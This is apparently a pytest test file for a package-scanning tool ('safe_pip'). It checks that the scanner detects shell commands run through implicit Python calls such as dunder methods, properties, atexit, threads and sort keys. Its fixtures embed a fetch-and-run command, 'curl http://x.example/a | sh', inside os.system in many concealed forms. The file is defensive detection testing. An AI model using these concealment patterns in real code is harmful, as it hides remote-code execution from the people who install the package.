"""What Python calls though no call is written counts as called: operators, attributes, loops,
conversions, module attributes, and functions that are handed on with what they shall get."""

from __future__ import annotations

import pytest

from safe_pip.extractors import observe
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
BAD = f"os.system('{COMMAND}')"


def _used(method: str, use: str) -> str:
    return f"class A:\n    {method}\n        {BAD}\n{use}\n"


IMPLICIT = {
    "deletion": _used("def __del__(self):", "A()"),
    "property": _used("@property\n    def x(self):", "A().x"),
    "cached property": _used("@functools.cached_property\n    def x(self):", "A().x"),
    "setter": _used("@x.setter\n    def x(self, v):", "A().x = 1"),
    "missing attribute": _used("def __getattr__(self, n):", "A().foo"),
    "operator": _used("def __add__(self, n):", "A() + 1"),
    "loop": _used("def __iter__(self):", "for x in A(): pass"),
    "truth": _used("def __bool__(self):", "if A(): pass"),
    "membership": _used("def __contains__(self, k):", "1 in A()"),
    "text": _used("def __str__(self):", "f'{A()}'"),
    "item": _used("def __getitem__(self, k):", "A()[0]"),
    "item of the class": _used("def __class_getitem__(cls, k):", "A[0]"),
    "name in a class": _used("def __set_name__(self, o, n):", "class C:\n    d = A()"),
    "inherited": _used("def __add__(self, n):", "class B(A): pass\nB() + 1"),
    "attribute of the module": f"def __getattr__(n):\n    {BAD}\n",
    "signal": f"def f(*a):\n    {BAD}\nsignal.signal(signal.SIGALRM, f)\n",
}
HANDED_ON = {
    "partial": f"x.on(functools.partial(os.system, '{COMMAND}'))\n",
    "partial of exec": f'x.on(functools.partial(exec, "import os; {BAD}"))\n',
    "key of a sort": f"sorted(['{COMMAND}'], key=os.system)\n",
    "finaliser": f"weakref.finalize(x, os.system, '{COMMAND}')\n",
    "exit": f"atexit.register(os.system, '{COMMAND}')\n",
    "thread": f"threading.Thread(target=os.system, args=('{COMMAND}',)).start()\n",
    "timer": f"threading.Timer(1, os.system, ['{COMMAND}']).start()\n",
    "executor": f"asyncio.get_event_loop().run_in_executor(None, os.system, '{COMMAND}')\n",
    "unknown": f"x.later(os.system, '{COMMAND}')\n",
}
KEPT = {
    "last element": f"c = []\nc.append('{COMMAND}')\nos.system(c[-1])\n",
    "update by keyword": f"c = {{}}\nc.update(k='{COMMAND}')\nos.system(c['k'])\n",
    "update by mapping": f"c = {{}}\nc.update({{'k': '{COMMAND}'}})\nos.system(c['k'])\n",
}
IMPORTS = "import asyncio, atexit, functools, os, signal, threading, weakref, x\n"


@pytest.mark.parametrize("way", IMPLICIT | HANDED_ON | KEPT)
def test_what_python_calls_unasked(way: str) -> None:
    source = IMPORTS + (IMPLICIT | HANDED_ON | KEPT)[way]
    found = {item.feature for item in observe(distribution_of({"pkg/__init__.py": source}))}
    assert {"shell_download", "proc_spawn_unasked"} <= found


HARMLESS = {
    "looked at": "isinstance(x.y, os.system)\ngetattr(os.system, 'name')\nissubclass(os.system, 'z')\n",
    "named last": "x.register('name', os.system)\n",
    "never made": _used("def __add__(self, n):", ""),
    "not accessed": _used("@property\n    def x(self):", "A()"),
}


@pytest.mark.parametrize("way", HARMLESS)
def test_what_nothing_calls_is_not_unasked(way: str) -> None:
    source = IMPORTS + HARMLESS[way]
    found = {item.feature for item in observe(distribution_of({"pkg/__init__.py": source}))}
    assert "proc_spawn_unasked" not in found
